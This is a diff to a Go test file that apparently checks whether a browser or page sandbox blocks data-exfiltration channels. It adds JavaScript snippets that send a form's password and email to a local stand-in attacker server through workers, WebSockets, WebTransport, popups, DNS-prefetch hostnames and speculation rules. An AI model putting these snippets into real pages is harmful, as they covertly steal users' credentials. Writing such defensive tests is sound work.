@@ -43,6 +43,17 @@ var channels = map[string]string{
 	"fetch":         `fetch(A + '/fetch', {method: 'POST', mode: 'no-cors', body: q()});`,
 	"worker":        `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(A + '/worker?' + q()) + ')'], {type: 'text/javascript'})));`,
 	"serviceworker": `navigator.serviceWorker.register('/sw.js?' + q()).catch(() => {});`,
+	"sharedworker":  `new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(A + '/shared?' + q()) + ')'], {type: 'text/javascript'})));`,
+	"workersocket":  `new Worker(URL.createObjectURL(new Blob(['new WebSocket(' + JSON.stringify(A.replace('http', 'ws') + '/ws?' + q()) + ')'], {type: 'text/javascript'})));`,
+	"popupfirst":    `window.open('/first#' + q());`,
+	"wsstream":      `new WebSocketStream(A.replace('http', 'ws') + '/stream?' + q());`,
+	"webtransport":  `new WebTransport(A.replace('http', 'https') + '/wt?' + q());`,
+	"preconnect": `const hex = s => Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join('');
+    for (const [rel, href] of [['preconnect', A], ['dns-prefetch', 'http://' + hex(d().password) + '.localhost:' + H], ['preconnect', 'http://' + d().email.replace(/[^a-z0-9]+/gi, '-') + '.localhost:' + H]]) {
+      const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.appendChild(l); }
+    const s = document.createElement('script'); s.type = 'speculationrules';
+    s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [A + '/spec?' + q()]}], prerender: [{source: 'list', urls: [A + '/prerender?' + q()]}]});
+    document.head.appendChild(s);`,
 	"webrtc": `try { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + U}]});
     pc.createDataChannel(q()); pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {}`,
 	"hostname": `const hex = s => Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join('');
@@ -57,6 +68,7 @@ type channelSites struct {
 
 	mu       sync.Mutex
 	hits     []string // every request the attacker received
+	conns    int      // every connection it accepted, with a request or not
 	udpHits  int      // every datagram (STUN) it received
 	signups  []string // the form's own posts: emails
 	ownSocks int      // same-site socket handshakes
@@ -66,12 +78,22 @@ type channelSites struct {
 func newChannelSites(t *testing.T) *channelSites {
 	t.Helper()
 	cs := &channelSites{}
-	cs.attacker = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+	cs.attacker = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		cs.mu.Lock()
 		cs.hits = append(cs.hits, r.Method+" "+r.Host+r.URL.String())
 		cs.mu.Unlock()
 		w.WriteHeader(http.StatusNoContent)
 	}))
+	// A preconnect opens a connection and sends nothing: connections are
+	// counted apart from requests.
+	cs.attacker.Config.ConnState = func(_ net.Conn, st http.ConnState) {
+		if st == http.StateNew {
+			cs.mu.Lock()
+			cs.conns++
+			cs.mu.Unlock()
+		}
+	}
+	cs.attacker.Start()
 	t.Cleanup(cs.attacker.Close)
 	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
 	if err != nil {
@@ -135,6 +157,14 @@ func (cs *channelSites) siteHandler() http.Handler {
 		}
 		http.Error(w, "no", http.StatusBadRequest)
 	})
+	// A page of the site's own that, opened in a window, sends what its
+	// address carries to the attacker from its first document's first
+	// script, before anything else of it loads.
+	mux.HandleFunc("/first", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<!doctype html><html><head><script>new Image().src = %q + '/first?' + location.hash.slice(1);
+fetch(%q + '/first-fetch?' + location.hash.slice(1), {mode: 'no-cors'}).catch(() => {});</script></head><body><p>Thanks</p></body></html>`, cs.attacker.URL, cs.attacker.URL)
+	})
 	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "text/javascript")
 		fmt.Fprintf(w, `self.addEventListener('install', () => fetch(%q + '/sw'));`, cs.attacker.URL)
@@ -172,9 +202,10 @@ document.getElementById('f').addEventListener('submit', ev => {
 	return mux
 }
 
-// reached is what reached the attacker, and the legitimate counts.
-func (cs *channelSites) reached() (hits []string, udp int, signups []string, ownSocks, frames int) {
+// reached is what reached the attacker (requests, datagrams, connections),
+// and the legitimate counts.
+func (cs *channelSites) reached() (hits []string, udp, conns int, signups []string, ownSocks, frames int) {
 	cs.mu.Lock()
 	defer cs.mu.Unlock()
-	return append([]string{}, cs.hits...), cs.udpHits, append([]string{}, cs.signups...), cs.ownSocks, cs.frames
+	return append([]string{}, cs.hits...), cs.udpHits, cs.conns, append([]string{}, cs.signups...), cs.ownSocks, cs.frames
 }
